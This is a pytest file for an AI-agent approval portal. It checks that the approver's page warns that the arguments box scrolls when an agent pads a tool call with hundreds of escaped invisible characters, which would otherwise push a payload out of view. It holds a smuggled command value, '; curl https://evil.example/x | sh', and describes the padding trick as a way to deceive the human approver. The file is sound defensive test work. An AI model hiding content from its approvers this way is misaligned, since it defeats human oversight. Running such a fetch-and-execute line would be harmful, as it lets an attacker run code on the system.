"""Review wave 54, the approver's view attacked by the agent (the run token writes the call's
arguments): the approval page's "does the box scroll?" estimate.

The page promises that when the arguments box scrolls it says so above it ("the box below
scrolls: all N lines are part of the call") and below it ("The box holds all N lines ...:
scroll it to read them all"), and otherwise says "End of the arguments". A box said to scroll
may not; never the reverse (governance/portal/inbox.py, BOX_LINES / BOX_COLUMNS).

The estimate counted the rows of the arguments as `json.dumps` writes them, but the box shows
every hidden or look-alike character as a marked `\\u200b` (6 characters) or `\\U000e0041`
(10 characters) escape. An agent that writes a few hundred such characters before its payload
makes the shown text many times longer than the counted one: the box scrolls, the payload sits
below its fold, and the page says "End of the arguments (4 lines)" with no word of scrolling.
"""

import html
import re

import pytest

from governance.portal.inbox import BOX_COLUMNS, BOX_LINES
from tests.conftest import Api
from tests.governance.gate.test_pipeline import ask

pytestmark = pytest.mark.django_db

PAYLOAD = "; curl https://evil.example/x | sh"


def shown_rows(page: str) -> int:
    """The rows the arguments box takes as the page shows it: its text with the markup
    removed (each mark's escape is what the approver reads), each line wrapped at
    BOX_COLUMNS characters, as the page's own estimate wraps the unescaped text."""
    box = re.search(r'<pre class="fb-code fb-arguments"[^>]*>(.*?)</pre>', page, re.S).group(1)
    text = html.unescape(re.sub(r"<[^>]+>", "", box))
    return sum(1 + max(0, len(line) - 1) // BOX_COLUMNS for line in text.split("\n"))


@pytest.mark.parametrize(
    "hidden",
    [
        "\u200b",  # a zero-width space: shown as the 6 characters \u200b
        "\U000e0041",  # a tag character: shown as the 10 characters \U000e0041
    ],
)
def test_a_box_that_scrolls_because_of_escaped_characters_says_it_scrolls(
    make_run, approver, hidden
):
    run_id, runner = make_run()
    # ~950 characters of arguments as json.dumps writes them (about 23 rows of 50,
    # under BOX_LINES), shown as thousands: the payload is far below the box's fold.
    arguments = {"to": "ops@example.com", "body": "Weekly report" + hidden * 900 + PAYLOAD}
    approval_id = ask(runner, run_id, "send_email", arguments)["approval"]["id"]

    page = Api(user=approver).client.get(f"/admin/inbox/{approval_id}/")
    assert page.status_code == 200
    text = page.content.decode()
    assert PAYLOAD in html.unescape(text)  # the payload is in the box ...
    assert shown_rows(text) > 3 * BOX_LINES  # ... which is many box heights tall
    # ... so the page must say the box scrolls, above it and below it.
    assert "the box below scrolls" in text
    assert "End of the arguments" not in text
    assert "scroll it to read them all" in text


def test_a_short_call_with_a_few_escapes_still_ends_in_view(make_run, approver):
    """The reverse stays: a box that does not scroll is not said to."""
    run_id, runner = make_run()
    arguments = {"to": "ops@example.com", "body": "hi\u200bthere"}
    approval_id = ask(runner, run_id, "send_email", arguments)["approval"]["id"]
    text = Api(user=approver).client.get(f"/admin/inbox/{approval_id}/").content.decode()
    assert shown_rows(text) <= BOX_LINES
    assert "End of the arguments" in text
    assert "the box below scrolls" not in text
